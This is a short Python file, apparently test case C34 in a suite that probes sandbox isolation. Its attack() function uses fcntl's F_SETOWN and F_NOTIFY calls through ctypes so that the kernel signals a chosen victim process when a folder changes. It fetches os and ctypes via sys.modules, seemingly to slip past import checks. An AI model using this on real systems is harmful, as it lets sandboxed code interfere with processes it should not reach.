# C34: has another process signalled whenever a folder changes
# Without layers: may succeed
import sys

os = sys.modules["os"]

SETOWN, NOTIFY, CREATE = 8, 1026, 4


def attack(facts):
    libc = sys.modules["ctypes"].CDLL(None)
    folder = os.open(facts["folder"], os.O_RDONLY)
    libc.fcntl(folder, SETOWN, facts["victim"])
    libc.fcntl(folder, NOTIFY, CREATE)
    os.close(os.open(facts["folder"] + "/new", os.O_CREAT))
